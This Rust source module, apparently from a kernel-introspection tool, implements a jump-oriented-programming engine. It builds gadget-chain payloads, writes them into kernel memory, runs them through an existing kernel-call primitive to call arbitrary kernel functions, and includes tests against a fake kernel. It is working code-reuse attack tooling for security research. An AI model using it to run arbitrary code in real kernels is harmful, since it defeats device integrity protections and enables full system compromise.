//! The JOP call engine (spec component F): builds a jump-oriented-program
//! payload that invokes an arbitrary kernel function, launches it through
//! the 7-argument kernel-call primitive, and reads the result back.
//!
//! A [`CallStrategy`] is a fixed recipe for one such payload: which
//! gadgets it needs resolved, how large its payload and stack-argument
//! footprint are, and a `build` function that lays out the payload bytes
//! and the register state the kernel call primitive should start with.
//! [`CallStrategyRegistry`] holds strategies in preference order and picks
//! the first one whose gadgets are all resolved; [`JopEngine`] drives the
//! whole call.

pub mod gadgets;
pub mod strategy1;
pub mod strategy2;
pub mod strategy3;

use itertools::Itertools;

use crate::context::MemctlContext;
use crate::error::MemctlError;
use crate::gadget::GadgetTable;

/// The register state `kernel_call_7` should start execution with: `pc`
/// is the first gadget to jump to, `x` holds the 7 registers the
/// primitive loads before the call (`call_strategy.h`'s
/// `jop_call_initial_state`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct InitialState {
    pub pc: u64,
    pub x: [u64; 7],
}

/// A payload-building recipe for one JOP call strategy. `build` receives
/// the target function, the padded argument vector (`max_args()` long,
/// excess slots zeroed), the kernel virtual address the payload will be
/// written to, and a same-sized local scratch buffer to fill in; it
/// returns the initial register state and the kernel address the result
/// word will be written to.
pub struct CallStrategy {
    pub name: &'static str,
    pub required_gadgets: &'static [&'static str],
    pub payload_size: usize,
    pub stack_arg_bytes: usize,
    pub register_args: usize,
    pub build: fn(u64, &[u64], u64, &mut [u8], &GadgetTable) -> (InitialState, u64),
}

impl CallStrategy {
    /// The most arguments this strategy can pass: register arguments plus
    /// whatever fits in its stack-argument footprint.
    pub fn max_args(&self) -> usize {
        self.register_args + self.stack_arg_bytes / 8
    }

    pub fn is_available(&self, gadgets: &GadgetTable) -> bool {
        gadgets.all_resolved(self.required_gadgets)
    }
}

/// The ordered set of call strategies the engine will try, most capable
/// (or most specific) first.
pub struct CallStrategyRegistry {
    strategies: Vec<CallStrategy>,
}

impl CallStrategyRegistry {
    pub fn new(strategies: Vec<CallStrategy>) -> Self {
        CallStrategyRegistry { strategies }
    }

    /// The strategies this crate ships: 3 (8 register + 6 stack
    /// arguments) ahead of 2 and 1 (8 register arguments only), so higher
    /// argument counts are preferred whenever their gadgets resolve.
    pub fn default_strategies() -> Self {
        CallStrategyRegistry::new(vec![strategy3::STRATEGY_3, strategy2::STRATEGY_2, strategy1::STRATEGY_1])
    }

    pub fn select(&self, gadgets: &GadgetTable) -> Option<&CallStrategy> {
        self.strategies.iter().find(|s| s.is_available(gadgets))
    }

    /// A one-line summary of why no strategy was available, for the error
    /// message and log line when [`Self::select`] returns `None`.
    fn unavailable_report(&self, gadgets: &GadgetTable) -> String {
        self.strategies
            .iter()
            .map(|s| {
                let missing = s.required_gadgets.iter().filter(|g| !gadgets.is_resolved(g)).join(", ");
                format!("{}: missing [{}]", s.name, missing)
            })
            .join("; ")
    }
}

impl Default for CallStrategyRegistry {
    fn default() -> Self {
        CallStrategyRegistry::default_strategies()
    }
}

/// Drives a full kernel function call through JOP: selects a strategy,
/// builds its payload locally, copies it into the kernel, launches it via
/// `kernel_call_7`, and reads the result back.
pub struct JopEngine {
    registry: CallStrategyRegistry,
}

impl JopEngine {
    pub fn new(registry: CallStrategyRegistry) -> Self {
        JopEngine { registry }
    }

    /// Call `func(args...)` in the kernel, with the payload staged at
    /// `kernel_payload`. Returns the function's full 64-bit result, as
    /// recovered from the payload's result slot (not the 32-bit value
    /// `kernel_call_7` itself returns, which only reflects that the JOP
    /// chain launched successfully).
    pub fn call(&self, ctx: &MemctlContext, func: u64, args: &[u64], kernel_payload: u64) -> Result<u64, MemctlError> {
        let strategy = self.registry.select(&ctx.gadgets).ok_or_else(|| {
            let report = self.registry.unavailable_report(&ctx.gadgets);
            tracing::warn!(report = %report, "no JOP call strategy has all required gadgets");
            MemctlError::functionality_unavailable("no JOP call strategy has all required gadgets")
        })?;
        if args.len() > strategy.max_args() {
            return Err(MemctlError::functionality_unavailable(format!(
                "strategy {} supports at most {} arguments, got {}",
                strategy.name,
                strategy.max_args(),
                args.len()
            )));
        }

        let mut padded_args = args.to_vec();
        padded_args.resize(strategy.max_args(), 0);

        let mut payload = vec![0u8; strategy.payload_size];
        let (initial_state, result_address) = (strategy.build)(func, &padded_args, kernel_payload, &mut payload, &ctx.gadgets);
        tracing::info!(
            strategy = strategy.name,
            payload_size = strategy.payload_size,
            result_address,
            "dispatching JOP call"
        );

        let memory = ctx.require_kernel_memory()?;
        memory.write(kernel_payload, &payload)?;

        let call7 = ctx.require_kernel_call_7()?;
        call7.call(initial_state.pc, &initial_state.x)?;

        let mut result_bytes = [0u8; 8];
        memory.read(result_address, &mut result_bytes)?;
        Ok(u64::from_le_bytes(result_bytes))
    }
}

/// Writes `value` little-endian at `offset` in `payload`, as every
/// strategy's `build` does when laying out its buffer.
pub(crate) fn write_u64(payload: &mut [u8], offset: usize, value: u64) {
    payload[offset..offset + 8].copy_from_slice(&value.to_le_bytes());
}

/// Writes a contiguous chain of dispatch nodes (`{x2: gadget, x1: next}`,
/// 16 bytes each) starting at `offset`, returning the kernel address just
/// past the last node written — used both to thread one chain and to
/// splice a return chain directly after a call chain.
pub(crate) fn write_dispatch_chain(
    payload: &mut [u8],
    offset: usize,
    kernel_base: u64,
    gadgets: &GadgetTable,
    chain: &[&str],
) -> (usize, u64) {
    let mut node_offset = offset;
    let mut kernel_next = kernel_base;
    for name in chain {
        kernel_next += 16;
        write_u64(payload, node_offset, gadgets.address_of(name).expect("required gadget resolved"));
        write_u64(payload, node_offset + 8, kernel_next);
        node_offset += 16;
    }
    (node_offset, kernel_next)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::{KernelCall7, KernelMemory};
    use crate::gadget::GadgetPattern;
    use std::cell::RefCell;
    use std::rc::Rc;
    use std::sync::atomic::AtomicBool;

    struct FakeKernel {
        memory: RefCell<Vec<u8>>,
        base: u64,
    }

    impl KernelMemory for Rc<FakeKernel> {
        fn read(&self, address: u64, buf: &mut [u8]) -> Result<usize, MemctlError> {
            let offset = (address - self.base) as usize;
            buf.copy_from_slice(&self.memory.borrow()[offset..offset + buf.len()]);
            Ok(buf.len())
        }
        fn write(&self, address: u64, buf: &[u8]) -> Result<usize, MemctlError> {
            let offset = (address - self.base) as usize;
            self.memory.borrow_mut()[offset..offset + buf.len()].copy_from_slice(buf);
            Ok(buf.len())
        }
    }

    impl KernelCall7 for Rc<FakeKernel> {
        fn call(&self, _func: u64, _args: &[u64]) -> Result<u32, MemctlError> {
            Ok(0)
        }
    }

    fn resolve_all(table: &mut GadgetTable, patterns: &'static [GadgetPattern]) {
        let mut code = Vec::new();
        for p in patterns {
            for &w in p.words {
                code.extend_from_slice(&w.to_le_bytes());
            }
        }
        struct OneSegmentImage<'a> {
            seg: crate::gadget::Segment<'a>,
        }
        impl<'a> crate::gadget::ExecutableImage for OneSegmentImage<'a> {
            fn segments(&self) -> &[crate::gadget::Segment<'_>] {
                std::slice::from_ref(&self.seg)
            }
        }
        let image = OneSegmentImage {
            seg: crate::gadget::Segment {
                data: &code,
                vmaddr: 0x4000,
                initprot: crate::gadget::PROT_READ | crate::gadget::PROT_EXECUTE,
                maxprot: crate::gadget::PROT_READ | crate::gadget::PROT_EXECUTE,
            },
        };
        table.locate(&image, 0, &AtomicBool::new(false)).unwrap();
    }

    #[test]
    fn registry_with_no_resolved_gadgets_selects_nothing() {
        let gadgets = GadgetTable::new(&[]);
        let registry = CallStrategyRegistry::default_strategies();
        assert!(registry.select(&gadgets).is_none());
    }

    #[test]
    fn engine_rejects_too_many_arguments() {
        let mut gadgets = GadgetTable::new(gadgets::STRATEGY_1_GADGETS);
        resolve_all(&mut gadgets, gadgets::STRATEGY_1_GADGETS);
        let ctx = MemctlContext::new(gadgets);
        let engine = JopEngine::new(CallStrategyRegistry::new(vec![strategy1::STRATEGY_1]));
        let args = vec![0u64; 9];
        let err = engine.call(&ctx, 0x1000, &args, 0x2000).unwrap_err();
        assert!(matches!(err, MemctlError::FunctionalityUnavailable { .. }));
    }

    #[test]
    fn engine_round_trips_a_call_through_strategy_1() {
        let mut gadgets = GadgetTable::new(gadgets::STRATEGY_1_GADGETS);
        resolve_all(&mut gadgets, gadgets::STRATEGY_1_GADGETS);
        let kernel_payload = 0x1_0000u64;
        let kernel = Rc::new(FakeKernel { memory: RefCell::new(vec![0u8; 0x400]), base: kernel_payload });
        let ctx = MemctlContext::new(gadgets).with_kernel_call_7(kernel.clone()).with_kernel_memory(kernel.clone());
        let engine = JopEngine::new(CallStrategyRegistry::new(vec![strategy1::STRATEGY_1]));
        // Pre-seed the result slot the payload will read back from, standing
        // in for the kernel function's return value landing there via the
        // JOP chain's own store (which this fake doesn't execute).
        let result_offset = 0x9c;
        ctx.require_kernel_memory().unwrap().write(kernel_payload + result_offset, &42u64.to_le_bytes()).unwrap();
        let result = engine.call(&ctx, 0x2000, &[1, 2, 3, 4, 5, 6, 7, 8], kernel_payload).unwrap();
        assert_eq!(result, 42);
    }
}
